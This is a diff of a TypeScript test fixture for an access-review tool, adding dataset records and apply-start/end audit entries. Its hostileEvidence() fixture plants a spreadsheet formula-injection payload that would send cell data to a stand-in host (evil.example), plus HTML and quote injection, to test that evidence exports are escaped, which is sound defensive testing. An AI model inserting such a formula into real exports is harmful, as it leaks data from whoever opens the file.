@@ -3,12 +3,13 @@
 // the access report the real merge (src/plan/access.ts) makes of them. Reviews, patches, evidence
 // and HTML are tested on it without a backend.
 import type { AccessReading, AccessReport, ActualAccess, AccessHolder } from '../../src/model/access.js';
-import type { AuditRecord, Review, ReviewEvidence, ReviewVerdict } from '../../src/model/review.js';
+import type { AuditRecord, Review, ReviewDataset, ReviewEvidence, ReviewVerdict } from '../../src/model/review.js';
 import { accessReport } from '../../src/plan/access.js';
 import { isSelfDecision, reviewEvidence } from '../../src/plan/review.js';
 import { parseSpec } from '../../src/spec/load.js';
 import type { Spec } from '../../src/spec/schema.js';
 import { hashJson, sha256 } from '../../src/core/canonical.js';
+import { applyStartDetail } from '../../src/model/audit.js';
 import { decisionDetail, startDetail } from '../../src/plan/review-audit.js';
 
 export const NOW = new Date('2026-12-01T00:00:00.000Z');
@@ -109,6 +110,13 @@ export function fixtureReport(
   });
 }
 
+/** The fixture spec's datasets, as a review records them. */
+export const DATASETS: Record<string, ReviewDataset> = {
+  artifacts: { backend: 'aws', bucket: 'ai-model-artifacts' },
+  features: { backend: 'wh', database: 'analytics', schema: 'features' },
+  'training-data': { backend: 'aws', bucket: 'ai-model-data', prefix: 'training/' },
+};
+
 export const EMAILS: Record<string, string> = { alice: 'alice@example.com', bob: 'bob@example.com', dana: 'dana@example.com' };
 
 /**
@@ -137,6 +145,7 @@ export function fixtureReview(decisions: [string, string, string, ReviewVerdict,
       limits: report.limits,
       invariants: report.invariants,
       requests: report.requests,
+      datasets: DATASETS,
     },
     population: report.rows,
     emails: EMAILS,
@@ -208,18 +217,13 @@ export function hostileEvidence(): ReviewEvidence {
   );
   review.decisions[0]!.reason = `=HYPERLINK("http://evil.example/?"&A1,"x") <b>no longer on the team</b>`;
   const fresh = fixtureReport({ readings: fixtureReadings({ hostile: HOSTILE, without: (a) => a.holder.name === 'alice' && a.backend === 'aws' }) });
+  // The revocations patch applied: a run of another spec than the one reviewed removes alice's membership.
+  const run = { at: '2026-12-03T10:00:00.000Z', actor: 'ci@cli', address: null, outcome: 'ok' };
   const entries = [
     ...reviewEntries(review),
-    {
-      seq: 20,
-      at: '2026-12-03T10:00:00.000Z',
-      actor: 'ci@cli',
-      event: 'change.delete',
-      address: 'aws:membership/ml-researchers/alice',
-      outcome: 'ok',
-      detail: null,
-      hash: 'b'.repeat(64),
-    },
+    { ...run, seq: 19, event: 'apply.start', outcome: 'started', detail: applyStartDetail(1, 'run-1', 'c'.repeat(64)), hash: '9'.repeat(64) },
+    { ...run, seq: 20, event: 'change.delete', address: 'aws:membership/ml-researchers/alice', detail: null, hash: 'b'.repeat(64) },
+    { ...run, seq: 21, event: 'apply.end', detail: '1 applied, 0 failed, 0 skipped', hash: 'd'.repeat(64) },
   ];
-  return reviewEvidence({ review, fresh, entries, verdict: { ok: true, entries: 20 }, exportedBy: `auditor "<q>"@cli` });
+  return reviewEvidence({ review, fresh, entries, verdict: { ok: true, entries: 21 }, exportedBy: `auditor "<q>"@cli` });
 }
